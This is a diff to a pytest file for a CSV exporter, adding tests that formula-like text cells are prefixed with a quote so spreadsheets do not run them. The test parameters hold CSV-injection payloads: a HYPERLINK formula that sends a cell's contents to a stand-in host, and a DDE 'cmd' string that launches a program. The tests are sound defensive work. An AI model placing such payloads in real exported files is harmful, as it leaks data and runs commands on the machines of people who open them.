@@ -124,12 +124,32 @@ def test_csv_reads_back_with_the_csv_module(points: list[Point]) -> None:
     rows = list(csv.reader(io.StringIO("".join(render_csv(points)), newline="")))
     assert tuple(rows[0]) == CSV_HEADER
     for point, (thing_id, path, time, value, revision) in zip(points, rows[1:], strict=True):
-        assert (thing_id, path, int(revision)) == (point.thing_id, point.path, point.revision)
+        assert (_text_of(thing_id), _text_of(path), int(revision)) == (point.thing_id, point.path, point.revision)
         assert datetime.fromisoformat(time) == point.time
         if isinstance(point.value, str):
-            assert value == point.value
+            assert _text_of(value) == point.value
         else:
             assert loads(value) == point.value and type(loads(value)) is type(point.value)
+
+
+def _text_of(cell: str) -> str:
+    """The text of a CSV text cell: one leading `'` removed where the export added it (the cell starts with `'`
+    and then a character a spreadsheet reads as a formula, or a second `'`)."""
+    return cell[1:] if cell[:1] == "'" and cell[1:2] in ("=", "+", "-", "@", "\t", "\r", "'") else cell
+
+
+@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
+                                  "-2+3", "@SUM(1,1)", "\t=1", "\r=1", "'=1"])
+def test_csv_text_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(text: str) -> None:
+    (row,) = list(csv.reader(io.StringIO("".join(render_csv([Point("ns:a", "attributes/s", T0, text, 1)])),
+                                         newline="")))[1:]
+    assert row[3] == "'" + text and _text_of(row[3]) == text
+
+
+def test_csv_numbers_and_plain_text_are_written_as_they_are() -> None:
+    points = [Point("ns:a", "attributes/n", T0, value, 1) for value in (-5, -0.5, "a=b", "", "hello")]
+    rows = list(csv.reader(io.StringIO("".join(render_csv(points)), newline="")))[1:]
+    assert [row[3] for row in rows] == ["-5", "-0.5", "a=b", "", "hello"]
 
 
 def test_an_empty_export_is_the_header_alone() -> None:
